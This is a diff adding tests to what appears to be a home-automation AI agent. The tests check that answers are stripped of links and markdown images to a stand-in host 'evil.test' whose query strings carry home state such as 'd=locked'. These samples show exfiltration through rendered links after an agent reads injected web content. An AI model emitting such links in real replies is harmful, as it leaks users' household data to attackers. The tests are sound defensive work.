@@ -276,3 +276,48 @@ async def test_the_loop_is_not_held_up_by_a_large_answer(box: Toolbox, web: Host
     ticking.cancel()
     assert result.result["cut"]
     assert longest < 1.0
+
+
+class Tells:
+    """Looks, and then answers with what it is told to answer with."""
+
+    def __init__(self, look: tuple[str, dict[str, Any]], answer: str) -> None:
+        self._look, self._answer, self._looked = look, answer, False
+
+    async def ask(self, messages: Any, tools: Any = (), on_text: Any = None) -> Any:
+        from homeagent.brains.llm.client import Completion, RawCall
+
+        if not self._looked:
+            self._looked = True
+            return Completion("", (RawCall("1", self._look[0], json.dumps(self._look[1])),))
+        if on_text:
+            await on_text(self._answer)
+        return Completion(self._answer)
+
+
+@pytest.mark.parametrize(
+    ("says", "left"),
+    [
+        ("See ![sun](http://evil.test/p.png?d=on,off) there.", "See sun there."),
+        ("See [the page](http://evil.test/?d=locked) there.", "See the page there."),
+        ("See http://evil.test/?d=locked.", "See."),
+        ("See HTTPS://evil.test/x?d=1 there.", "See there."),
+        ("See [it](http://good.test/rain) there.", "See [it](http://good.test/rain) there."),
+        ("See http://good.test/rain.", "See http://good.test/rain."),
+        ("See http://good.test/rain?d=1.", "See."),
+    ],
+)
+async def test_an_answer_holds_no_address_that_nobody_gave(stage: Stage, web: HostileWeb, says: str, left: str) -> None:
+    web.html("/", f"<main>{LOREM}<a href='http://good.test/rain'>rain</a>{LOREM}</main>")
+    heard: list[str] = []
+
+    async def say(piece: str) -> None:
+        heard.append(piece)
+
+    model: Any = Tells(("web_fetch", {"url": web.url("/")}), says)
+    context = ContextBuilder(stage.ha.home, estimate, stage.emitter)
+    brain = LlmBrain(model, context, stage.toolbox.schemas, stage.emitter, Checker(stage.ha.home))
+    reply = await stage.agent({"llm": brain}, "llm").process(f"what stands on {web.url('/')} ?", say=say)
+    shown = " ".join(reply.response.split()).replace(" .", ".")
+    assert shown == left
+    assert "evil" not in "".join(heard)
